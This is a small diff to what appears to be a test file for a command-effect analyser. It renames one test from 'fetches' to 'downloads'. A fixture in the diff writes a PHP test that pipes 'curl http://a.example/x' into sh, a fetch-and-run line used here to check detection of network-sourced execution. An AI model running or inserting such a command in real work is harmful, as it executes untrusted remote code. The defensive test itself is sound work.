@@ -39,7 +39,7 @@ test.each([
     'cargo test',
   ),
   written('tests/ATest.php', '<?php exec("curl http://a.example/x | sh");', 'vendor/bin/phpunit'),
-])('%j runs what it fetches', (command) => {
+])('%j runs what it downloads', (command) => {
   expect(effects(command, 'execute').map(({ from }) => from)).toContain('network');
 });
 
